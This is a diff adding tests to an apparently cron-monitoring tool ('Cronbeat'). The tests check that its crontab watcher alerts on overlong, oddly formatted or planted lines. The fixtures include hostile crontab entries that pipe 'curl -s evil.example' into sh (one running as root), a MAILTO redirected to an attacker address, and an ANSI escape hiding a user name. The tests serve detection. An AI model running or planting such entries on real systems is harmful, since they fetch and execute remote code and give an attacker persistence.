@@ -1,4 +1,5 @@
-import { writeFileSync } from 'node:fs';
+import { readFileSync, writeFileSync } from 'node:fs';
+import { createHash } from 'node:crypto';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { join } from 'node:path';
@@ -160,5 +161,79 @@ describe('an alert whose answer was lost on the way', () => {
     } finally {
       proxy.close();
     }
+  });
+});
+
+// Independent of each other (a folder each, their own lines), so side by side: each waits on child processes.
+describe.concurrent('lines an alert cannot hold as they are, and lines Cronbeat reads as no job', () => {
+  it('a crontab line longer than an alert may be is alerted with its start and its end, what lies between left out, and never stops the watcher', async () => {
+    // Any user may write such a line in their own crontab: refused whole, the alert stayed first in
+    // the queue and ended every run of the watcher, which then told nothing more, of any crontab.
+    const padding = Array.from({ length: 2_500 }, (_, i) => `w${i}`).join(' ');
+    const { folder, file } = crontabFolder('0 1 * * * /a.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
+    expect((await watchOnce()).status).toBe(0);
+    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/x | sh\n`);
+    const added = await watchOnce();
+    expect(added.status, added.stderr).toBe(0);
+    writeFileSync(file, `0 1 * * * /a.sh\n* * * * * echo ${padding}; curl -s evil.example/y | sh\n`);
+    const altered = await watchOnce();
+    expect(altered.status, altered.stderr).toBe(0);
+    expect(altered.stdout).toMatch(/delivered: altered for /);
+    const stored = agent.store.db
+      .prepare("SELECT command, previous_command FROM server_alerts WHERE command LIKE '%echo w0 w1 %' ORDER BY id")
+      .all() as Array<{ command: string; previous_command: string | null }>;
+    expect(stored).toHaveLength(2);
+    for (const text of [stored[0].command, stored[1].command, stored[1].previous_command!]) {
+      expect(text.length).toBeLessThanOrEqual(10_000);
+      expect(text).toMatch(/^\* \* \* \* \* echo w0 w1 w2 /);
+      expect(text).toMatch(/ \(\d[\d,]* characters left out\) /);
+    }
+    expect(stored[0].command).toMatch(/; curl -s evil\.example\/x \| sh$/);
+    expect(stored[1].command).toMatch(/; curl -s evil\.example\/y \| sh$/);
+    expect(stored[1].previous_command).toMatch(/; curl -s evil\.example\/x \| sh$/);
+  });
+
+  it('a setting and a line Cronbeat reads as no job are watched as jobs are (some cron may run it), and one there before they were watched is no addition', async () => {
+    const { folder, file } = crontabFolder('MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--file', file], { env });
+    const first = await watchOnce();
+    expect(first.stdout).toMatch(/watching 2 cron jobs of 1 user/);
+    // The state as a watcher from before kept it: the jobs alone.
+    const stateFile = join(folder, 'crontab-watch-web-7.json');
+    const state = JSON.parse(readFileSync(stateFile, 'utf8'));
+    const before = (job: { refused?: true; setting?: string; text: string }) => !job.refused && job.setting === undefined && !job.text.startsWith('-');
+    // And @DAILY, a job to it then (no macro to cron), by the hash it gave jobs.
+    const daily = { source: file, user: state.jobs[0].user, text: '@DAILY /shouty.sh', hash: createHash('sha256').update('@DAILY\0/shouty.sh').digest('hex') };
+    writeFileSync(stateFile, JSON.stringify({ ...state, everyLine: undefined, jobs: [...state.jobs.filter(before), daily] }));
+    const upgraded = await watchOnce();
+    expect(upgraded.status).toBe(0);
+    expect(upgraded.stdout).not.toMatch(/found:/);
+    // Debian's cron runs "5/20" at :05 every hour: planted so, a line must not pass unseen.
+    writeFileSync(file, 'MAILTO=ops@example.com\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    const planted = await watchOnce();
+    expect(planted.status, planted.stderr).toBe(0);
+    expect(planted.stdout).toMatch(/delivered: added for \S+: 5\/20 \* \* \* \* root curl -s evil\.example \| sh\n/);
+    // Where every job's output goes: a setting changed is told as one.
+    writeFileSync(file, 'MAILTO=drop@evil.example\n0 1 * * * /a.sh\n5/20 * * * * /old-odd.sh\n-0 2 * * * /unlogged.sh\n@DAILY /shouty.sh\n5/20 * * * * root curl -s evil.example | sh\n');
+    const mailTo = await watchOnce();
+    expect(mailTo.stdout).toMatch(/delivered: altered for \S+: MAILTO=drop@evil\.example \(was: MAILTO=ops@example\.com\)\n/);
+  });
+
+  it("a system crontab's user column that no name could be is alerted with its control characters written out and cut to what a name may be, and never stops the watcher", async () => {
+    const { folder, file } = crontabFolder('0 1 * * * root /a.sh\n');
+    const env = { CRONBEAT_URL: agent.url, CRONBEAT_API_TOKEN: agent.token, CRONBEAT_DATA_DIR: folder };
+    const watchOnce = () => runCli(['crontab', 'watch', '--server', 'web-7', '--once', '--system-file', file], { env });
+    expect((await watchOnce()).status).toBe(0);
+    writeFileSync(file, `0 1 * * * root /a.sh\n0 2 * * * \u001b[8mroot /hidden-user.sh\n0 3 * * * ${'u'.repeat(300)} /long-user.sh\n`);
+    const result = await watchOnce();
+    expect(result.status, result.stderr).toBe(0);
+    const stored = agent.store.db
+      .prepare("SELECT username FROM server_alerts WHERE command LIKE '%hidden-user%' OR command LIKE '%long-user%' ORDER BY id")
+      .pluck()
+      .all() as string[];
+    expect(stored).toEqual(['\\u001b[8mroot', `${'u'.repeat(254)}…`]);
   });
 });
